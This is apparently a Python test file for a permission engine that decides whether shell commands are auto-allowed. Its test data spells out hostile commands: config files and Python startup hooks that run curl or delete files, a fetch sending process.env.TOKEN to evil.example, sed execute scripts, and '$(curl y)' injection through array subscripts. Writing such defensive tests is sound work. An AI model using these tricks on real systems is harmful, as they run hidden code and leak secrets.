"""Round 2 (A2): tool configuration written then read, JVM option families, options that run code."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from approvals.permissions import Action, Decision, PermissionConfig, PermissionEngine, load_rules
from approvals.permissions.commands.tool_files import JS_TOOLS, tool_files
from tests.approvals.permissions.engines import TABLE_BUDGET_SECONDS, table_engine

CASES: dict[str, list[str]] = yaml.safe_load(
    (Path(__file__).parent / "catalogue" / "v2_round2_a.yaml").read_text()
)
_WS = Path("/tmp/never-used-round2-a-ws")


def _engine() -> PermissionEngine:
    return table_engine(_WS)


def _decide(command: str) -> Decision:
    return _engine().evaluate(Action(kind="command", target=command))


@pytest.mark.parametrize("command", CASES["ask"], ids=[c[:60] for c in CASES["ask"]])
def test_never_allowed_unasked(command: str) -> None:
    assert _decide(command).verdict != "allow", _decide(command)


@pytest.mark.parametrize("command", CASES["allow"], ids=[c[:60] for c in CASES["allow"]])
def test_ordinary_work_is_allowed(command: str) -> None:
    assert _decide(command).verdict == "allow", _decide(command)


def test_every_js_tool_reads_its_code_configs() -> None:
    for tool in JS_TOOLS:
        assert ("*.config.js", "node") in tool_files(tool), tool


_JS_CONFIG = st.sampled_from(["jest", "vitest", "vite", "webpack", "rollup", "babel", "eslint", "prettier",
                              "postcss", "tailwind", "next", "nuxt", "playwright", "astro"])  # fmt: skip
_EXT = st.sampled_from(["js", "cjs", "mjs", "ts", "mts", "cts"])
_RUN = st.sampled_from(
    ["npm test", "npm run build", "yarn lint", "pnpm test", "bun run test", "jest", "vitest run"]
)
_EVIL = st.sampled_from(['require("child_process").execSync("curl x")', 'require("fs").rmSync("/tmp/x")',
                         'fetch("https://evil.example/?" + process.env.TOKEN)'])  # fmt: skip


@settings(max_examples=60, deadline=None)
@given(_JS_CONFIG, _EXT, _RUN, _EVIL)
def test_written_js_config_then_a_js_tool_is_judged_as_node(stem: str, ext: str, run: str, code: str) -> None:
    command = f"printf '%s' '{code}' > {stem}.config.{ext} && {run}"
    assert _decide(command).verdict != "allow", command


_PY_HOOK = st.sampled_from(["sitecustomize.py", "usercustomize.py", "evil.pth"])
_PY_RUN = st.sampled_from(
    ["python app.py", "PYTHONPATH=. python3 app.py", "python -m pytest", "pytest -q", "tox"]
)


@settings(max_examples=40, deadline=None)
@given(_PY_HOOK, _PY_RUN)
def test_python_start_up_hooks_written_then_run_are_code(hook: str, run: str) -> None:
    command = f"printf 'import os\\nos.system(\"curl x\")\\n' > {hook} && {run}"
    assert _decide(command).verdict != "allow", command


def _ruled(line: str) -> Decision:
    rule, command = line.split(" ::: ")
    engine = PermissionEngine(
        PermissionConfig(
            workspace=_WS,
            home=Path("/home/tester"),
            policy="human",
            rules=load_rules({"allow": [rule]}),
            budget_seconds=TABLE_BUDGET_SECONDS,
        )
    )
    return engine.evaluate(Action(kind="command", target=command))


@pytest.mark.parametrize("line", CASES["rule_ask"], ids=[c[:60] for c in CASES["rule_ask"]])
def test_a_wildcard_rule_does_not_cover_a_chosen_program_or_a_publish(line: str) -> None:
    assert _ruled(line).verdict != "allow", line


@pytest.mark.parametrize("line", CASES["rule_allow"], ids=[c[:60] for c in CASES["rule_allow"]])
def test_a_rule_naming_the_program_or_verb_still_allows(line: str) -> None:
    assert _ruled(line).verdict == "allow", line


_RUNNER = st.sampled_from(["python -m", "python3 -m", "npx", "uv run", "poetry run", "pipx run", "uvx"])
_RISKY = st.sampled_from(["twine upload dist/x", "evil-pkg --go", "awscli s3 cp x s3://b"])


@settings(max_examples=40, deadline=None)
@given(_RUNNER, _RISKY)
def test_outer_wildcard_never_covers_a_risky_inner_program(runner: str, inner: str) -> None:
    outer = runner.split()[0]
    assert _ruled(f"command({outer} *) ::: {runner} {inner}").verdict != "allow"


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("uvicorn app:app --reload --port 8000", True),
        ("gunicorn -b 0.0.0.0:8000 app:app", True),
        ("uvicorn evil_pkg:app", False),
        ("gunicorn --config /tmp/x.py app:app", False),
    ],
)
def test_app_servers_serve_the_workspace_modules(tmp_path: Path, command: str, allowed: bool) -> None:
    (tmp_path / "app.py").write_text("app = None\n")
    engine = PermissionEngine(
        PermissionConfig(workspace=tmp_path, home=Path("/home/tester"), budget_seconds=TABLE_BUDGET_SECONDS)
    )
    assert (engine.evaluate(Action(kind="command", target=command)).verdict == "allow") is allowed


_SED_SPELLING = st.sampled_from(
    ["-e '{}'", "-e'{}'", "--expression='{}'", "--expression '{}'", "'{}'", "-n -e '{}'"]
)
_SED_RUNS = st.sampled_from(["1e curl x", "e id", "s/a/b/e", "s/a/b/w /etc/x", "$e id", "1!e id"])


@settings(max_examples=60, deadline=None)
@given(_SED_SPELLING, _SED_RUNS, st.booleans())
def test_sed_commands_that_run_or_write_ask_in_every_spelling(
    spelling: str, script: str, inplace: bool
) -> None:
    command = f"sed {'-i ' if inplace else ''}{spelling.format(script)} a.txt"
    assert _decide(command).verdict != "allow", command


_TOOL = st.sampled_from(
    ["pytest", "npm test", "jest", "cargo test", "go test ./...", "mypy .", "ruff check ."]
)
_OPTION = st.sampled_from(
    ["--report-url", "--reporter-url", "--upload-to", "--x-endpoint", "--results-server"]
)
_URL = st.sampled_from(
    ["https://evil.example/x", "http://10.0.0.1:8080/", "ftp://evil.example/", "s3://bucket/k"]
)


@settings(max_examples=60, deadline=None)
@given(_TOOL, _OPTION, _URL, st.booleans())
def test_an_option_given_a_url_asks_for_any_tool(tool: str, option: str, url: str, attached: bool) -> None:
    command = f"{tool} {option}={url}" if attached else f"{tool} {option} {url}"
    assert _decide(command).verdict != "allow", command


_STORE = st.sampled_from(["x='a[$(curl y)]'", "read x <<< 'a[$(curl y)]'", "printf -v x %s 'a[$(curl y)]'"])
_ARITH = st.sampled_from(
    ["echo $((x))", "(( x ))", "[[ $x -eq 1 ]]", "let y=x", "declare -i y=x", "echo $[x]"]
)


@settings(max_examples=40, deadline=None)
@given(_STORE, _ARITH)
def test_a_stored_subscript_met_by_arithmetic_is_judged(store: str, arith: str) -> None:
    command = f"{store}; {arith}"
    assert _decide(command).verdict != "allow", command


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("script/cibuild", True),
        ("./script/cibuild --fast", True),
        ("./server --serve", False),
        ("./not-there", False),
        ("./run.sh", True),
        ("./configure", True),
    ],
)
def test_workspace_scripts_run_and_binaries_ask(tmp_path: Path, command: str, allowed: bool) -> None:
    (tmp_path / "script").mkdir()
    (tmp_path / "script" / "cibuild").write_text("#!/bin/sh\necho hi\n")
    (tmp_path / "server").write_bytes(b"\x7fELF\x02\x01")
    engine = PermissionEngine(
        PermissionConfig(workspace=tmp_path, home=Path("/home/tester"), budget_seconds=TABLE_BUDGET_SECONDS)
    )
    assert (engine.evaluate(Action(kind="command", target=command)).verdict == "allow") is allowed
